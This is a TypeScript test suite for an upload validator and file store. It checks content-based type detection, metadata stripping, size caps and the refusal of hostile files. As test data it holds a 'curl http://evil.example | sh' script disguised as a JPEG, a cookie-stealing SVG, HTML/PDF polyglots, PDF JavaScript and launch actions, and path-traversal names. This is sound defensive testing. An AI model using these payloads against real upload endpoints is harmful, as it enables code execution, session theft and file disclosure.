import { mkdtemp, rm, stat, symlink, writeFile, mkdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AppError, type ErrorCode } from '../errors.js';
import { FILE_KEY_PATTERN, acceptUpload, createFileStore, type AcceptedFile } from './index.js';

const MB = 1024 * 1024;
const ALL = ['jpeg', 'png', 'webp', 'pdf'] as const;

function upload(data: Buffer, fileName = 'document.jpg', extra: object = {}) {
  return acceptUpload({ data, fileName, maxBytes: 5 * MB, allowed: [...ALL], ...extra });
}

async function refusal(promise: Promise<unknown>, code: ErrorCode, message: RegExp) {
  const err = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(AppError);
  expect((err as AppError).code).toBe(code);
  expect((err as AppError).message).toMatch(message);
}

function minimalPdf(body = ''): Buffer {
  return Buffer.from(
    [
      '%PDF-1.4',
      '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
      '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
      '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj',
      body,
      'trailer << /Root 1 0 R >>',
      '%%EOF',
      '',
    ].join('\n'),
    'latin1',
  );
}

let png: Buffer;
let jpegWithExif: Buffer;
let webp: Buffer;

beforeAll(async () => {
  const create = { width: 64, height: 48, channels: 3 as const, background: '#3366cc' };
  png = await sharp({ create }).png().toBuffer();
  jpegWithExif = await sharp({ create })
    .jpeg()
    .withExif({
      IFD0: { Artist: 'Secret Artist Name', Copyright: 'GPS-LEAK-MARKER' },
    })
    .toBuffer();
  webp = await sharp({ create }).webp().toBuffer();
});

describe('acceptUpload: accepted files', () => {
  it('re-encodes a PNG to WebP and reports hash and dimensions of the stored bytes', async () => {
    const out = await upload(png, 'scan.png');
    expect(out.mime).toBe('image/webp');
    expect(out.extension).toBe('webp');
    expect(out.bytes).toBe(out.data.length);
    expect(out.sha256).toMatch(/^[0-9a-f]{64}$/);
    const { createHash } = await import('node:crypto');
    expect(out.sha256).toBe(createHash('sha256').update(out.data).digest('hex'));
    expect([out.width, out.height]).toEqual([64, 48]);
    expect((await sharp(out.data).metadata()).format).toBe('webp');
  });

  it('re-encodes a JPEG as JPEG and strips its EXIF (artist, copyright, GPS)', async () => {
    const before = await sharp(jpegWithExif).metadata();
    expect(before.exif).toBeDefined();
    expect(jpegWithExif.includes('Secret Artist Name')).toBe(true);

    const out = await upload(jpegWithExif, 'passport.jpeg');
    expect(out.mime).toBe('image/jpeg');
    expect(out.extension).toBe('jpg');
    const after = await sharp(out.data).metadata();
    expect(after.format).toBe('jpeg');
    expect(after.exif).toBeUndefined();
    expect(after.xmp).toBeUndefined();
    expect(after.icc).toBeUndefined();
    expect(out.data.includes('Secret Artist Name')).toBe(false);
    expect(out.data.includes('GPS-LEAK-MARKER')).toBe(false);
  });

  it('applies EXIF orientation to the pixels before dropping it', async () => {
    const rotated = await sharp({
      create: { width: 60, height: 20, channels: 3, background: 'red' },
    })
      .jpeg()
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const out = await upload(rotated);
    expect([out.width, out.height]).toEqual([20, 60]);
    expect((await sharp(out.data).metadata()).orientation).toBeUndefined();
  });

  it('re-encodes a WebP as WebP', async () => {
    const out = await upload(webp, 'selfie.webp');
    expect(out.mime).toBe('image/webp');
    expect(out.extension).toBe('webp');
  });

  it('caps dimensions at 4000px keeping the aspect ratio', async () => {
    const wide = await sharp({
      create: { width: 8000, height: 1000, channels: 3, background: 'white' },
    })
      .png()
      .toBuffer();
    const out = await upload(wide, 'wide.png');
    expect([out.width, out.height]).toEqual([4000, 500]);
  });

  it('decides the type from content, ignoring the name and the declared type', async () => {
    const out = await upload(png, 'statement.pdf', { declaredType: 'application/pdf' });
    expect(out.mime).toBe('image/webp');
  });

  it('accepts a minimal valid PDF unchanged', async () => {
    const pdf = minimalPdf();
    const out = await upload(pdf, 'payment-proof.pdf');
    expect(out.mime).toBe('application/pdf');
    expect(out.extension).toBe('pdf');
    expect(out.data.equals(pdf)).toBe(true);
    expect(out.width).toBeUndefined();
  });

  it('destroys data appended to a PNG (ZIP and HTML polyglots)', async () => {
    const zipMarker = 'PK\u0003\u0004APPENDED-ZIP-MARKER';
    const htmlMarker = '<html><script>alert("APPENDED-HTML-MARKER")</script></html>';
    for (const marker of [zipMarker, htmlMarker]) {
      const polyglot = Buffer.concat([png, Buffer.from(marker, 'latin1')]);
      const out = await upload(polyglot, 'receipt.png');
      expect(out.data.includes('APPENDED')).toBe(false);
      expect(out.data.includes('<html')).toBe(false);
      expect(out.data.includes('PK\u0003\u0004')).toBe(false);
    }
  });

  it('accepts a file of exactly maxBytes', async () => {
    const exact = Buffer.concat([png, Buffer.alloc(MB - png.length)]);
    expect(exact.length).toBe(MB);
    const out = await upload(exact, 'exact.png', { maxBytes: MB });
    expect(out.mime).toBe('image/webp');
  });
});

describe('acceptUpload: refusals', () => {
  it('refuses one byte over maxBytes, naming the limit in MB', async () => {
    const over = Buffer.concat([png, Buffer.alloc(MB + 1 - png.length)]);
    await refusal(upload(over, 'big.png', { maxBytes: MB }), 'UNPROCESSABLE', /too large.*1 MB/);
    await refusal(
      upload(Buffer.alloc(11 * MB, 1), 'big.png', { maxBytes: 10 * MB }),
      'UNPROCESSABLE',
      /limit is 10 MB/,
    );
  });

  it('refuses an empty file', async () => {
    await refusal(upload(Buffer.alloc(0)), 'UNPROCESSABLE', /empty/);
  });

  it('refuses a shell script renamed x.jpg even when declared image/jpeg', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');
    await refusal(
      upload(script, 'x.jpg', { declaredType: 'image/jpeg' }),
      'UNPROCESSABLE',
      /not accepted.*JPEG, PNG, WebP, PDF/,
    );
  });

  it('refuses HTML, SVG with script, GIF and ZIP', async () => {
    const html = Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>');
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
    );
    const gif = await sharp({ create: { width: 4, height: 4, channels: 3, background: 'red' } })
      .gif()
      .toBuffer();
    const zip = Buffer.from('PK\u0003\u0004\u0014\u0000\u0000\u0000\u0000\u0000' + 'x'.repeat(40));
    for (const [name, data] of [
      ['page.jpg', html],
      ['logo.png', svg],
      ['anim.png', gif],
      ['docs.pdf', zip],
    ] as const) {
      await refusal(upload(data, name), 'UNPROCESSABLE', /type of file is not accepted/);
    }
  });

  it('refuses a type that is valid but not in the allowed list', async () => {
    await refusal(
      upload(minimalPdf(), 'proof.pdf', { allowed: ['jpeg', 'png'] }),
      'UNPROCESSABLE',
      /Upload a JPEG, PNG file/,
    );
  });

  it('refuses an HTML/PDF polyglot', async () => {
    const polyglot = Buffer.from(
      '%PDF-1.4\n<html><script>fetch("/api/me")</script></html>\ntrailer <<>>\n%%EOF\n',
    );
    await refusal(upload(polyglot, 'proof.pdf'), 'UNPROCESSABLE', /web page content/);
    const doctype = minimalPdf('% <!DocType HTML>');
    await refusal(upload(doctype, 'proof.pdf'), 'UNPROCESSABLE', /web page content/);
  });

  it('refuses PDFs with JavaScript, launch actions or embedded files, also #-escaped', async () => {
    const bodies = [
      '4 0 obj << /Type /Action /S /JavaScript /JS (app.alert(1)) >> endobj',
      '4 0 obj << /OpenAction << /S /JS (x) >> >> endobj',
      '4 0 obj << /S /Launch /F (cmd.exe) >> endobj',
      '4 0 obj << /Names << /EmbeddedFiles 5 0 R >> >> endobj',
      '4 0 obj << /Type /EmbeddedFile >> endobj',
      '4 0 obj << /S /J#61vaScript >> endobj',
    ];
    for (const body of bodies) {
      await refusal(upload(minimalPdf(body), 'p.pdf'), 'UNPROCESSABLE', /scripts, launch/);
    }
  });

  it('refuses a PDF without %%EOF near the end', async () => {
    const truncated = minimalPdf().subarray(0, 60);
    await refusal(upload(truncated, 'p.pdf'), 'UNPROCESSABLE', /incomplete/);
    const farEof = Buffer.concat([minimalPdf(), Buffer.alloc(2048, 0x20)]);
    await refusal(upload(farEof, 'p.pdf'), 'UNPROCESSABLE', /incomplete/);
  });

  it('refuses a PDF whose header is not at offset 0', async () => {
    // file-type tolerates nothing here either, so the type check catches it first.
    const shifted = Buffer.concat([Buffer.from('   '), minimalPdf()]);
    await refusal(upload(shifted, 'p.pdf'), 'UNPROCESSABLE', /not accepted|PDF header/);
  });

  it('refuses an image over 50 megapixels', async () => {
    const huge = await sharp({
      create: { width: 10_000, height: 5_001, channels: 3, background: 'white' },
    })
      .png({ compressionLevel: 1 })
      .toBuffer();
    await refusal(upload(huge, 'huge.png'), 'UNPROCESSABLE', /too large.*50 megapixels/);
  });

  it('refuses a truncated or corrupt JPEG', async () => {
    const big = await sharp({ create: { width: 300, height: 300, channels: 3, background: 'red' } })
      .jpeg()
      .toBuffer();
    await refusal(
      upload(big.subarray(0, Math.floor(big.length / 2))),
      'UNPROCESSABLE',
      /could not be read/,
    );
    const garbage = Buffer.concat([big.subarray(0, 4), Buffer.alloc(500, 0xaa)]);
    await refusal(upload(garbage), 'UNPROCESSABLE', /could not be read|not accepted/);
  });

  it('refuses unacceptable file names', async () => {
    const names = [
      '../secret.jpg',
      '/etc/passwd',
      'a\\b.jpg',
      'dir/file.jpg',
      'a..jpg',
      'photo\u0000.jpg',
      'photo\n.jpg',
      'photo\u007f.jpg',
      'gpj\u202e.exe',
      '',
      '   ',
      'a'.repeat(201),
    ];
    for (const name of names) {
      await refusal(upload(png, name), 'BAD_REQUEST', /^The file name is not acceptable/);
    }
    await expect(upload(png, `${'a'.repeat(196)}.png`)).resolves.toBeDefined();
  });
});

describe('file store', () => {
  let root: string;
  let accepted: AcceptedFile;

  beforeAll(async () => {
    root = path.join(await mkdtemp(path.join(tmpdir(), 'files-test-')), 'uploads');
    accepted = await upload(png, 'scan.png');
  });
  afterAll(async () => {
    await rm(path.dirname(root), { recursive: true, force: true });
  });

  it('round-trips bytes under a random key with fan-out dirs, file 0600 and dirs 0700', async () => {
    const store = createFileStore(root);
    const { key } = await store.put(accepted);
    expect(key).toMatch(FILE_KEY_PATTERN);
    expect(key).toMatch(/^[0-9a-f]{32}\.webp$/);
    expect((await store.read(key)).equals(accepted.data)).toBe(true);

    const file = path.join(root, key.slice(0, 2), key.slice(2, 4), key);
    expect((await stat(file)).mode & 0o777).toBe(0o600);
    expect((await stat(path.dirname(file))).mode & 0o777).toBe(0o700);
    expect((await stat(path.dirname(path.dirname(file)))).mode & 0o777).toBe(0o700);

    const second = await store.put(accepted);
    expect(second.key).not.toBe(key);
  });

  it('refuses malformed and traversal keys', async () => {
    const store = createFileStore(root);
    const bad = [
      '../../etc/passwd',
      '..',
      'ab/cd/0123456789abcdef0123456789abcdef.jpg',
      '0123456789abcdef0123456789abcdef.jpg/../../x',
      '0123456789ABCDEF0123456789ABCDEF.jpg',
      '0123456789abcdef0123456789abcdef.exe',
      '0123456789abcdef0123456789abcdef',
      '0123456789abcdef0123456789abcdef.jpg\u0000',
      '',
    ];
    for (const key of bad) {
      await refusal(store.read(key), 'BAD_REQUEST', /file reference is not valid/);
      await refusal(store.remove(key), 'BAD_REQUEST', /file reference is not valid/);
    }
  });

  it('answers NOT_FOUND for unknown keys and after removal; remove is idempotent', async () => {
    const store = createFileStore(root);
    await refusal(
      store.read('0123456789abcdef0123456789abcdef.pdf'),
      'NOT_FOUND',
      /file was not found/,
    );
    const { key } = await store.put(accepted);
    await store.remove(key);
    await refusal(store.read(key), 'NOT_FOUND', /file was not found/);
    await expect(store.remove(key)).resolves.toBeUndefined();
  });

  it('does not follow a symlink planted at a key path', async () => {
    const store = createFileStore(root);
    const key = 'aabbccddeeff00112233445566778899.pdf';
    const dir = path.join(root, 'aa', 'bb');
    await mkdir(dir, { recursive: true });
    const outside = path.join(path.dirname(root), 'outside.txt');
    await writeFile(outside, 'secret');
    await symlink(outside, path.join(dir, key));
    await refusal(store.read(key), 'NOT_FOUND', /not found/);
  });

  it('refuses a tampered AcceptedFile and a relative root', async () => {
    const store = createFileStore(root);
    await expect(store.put({ ...accepted, data: Buffer.from('other bytes') })).rejects.toThrow(
      /sha256/,
    );
    expect(() => createFileStore('relative/uploads')).toThrow(/absolute/);
  });
});
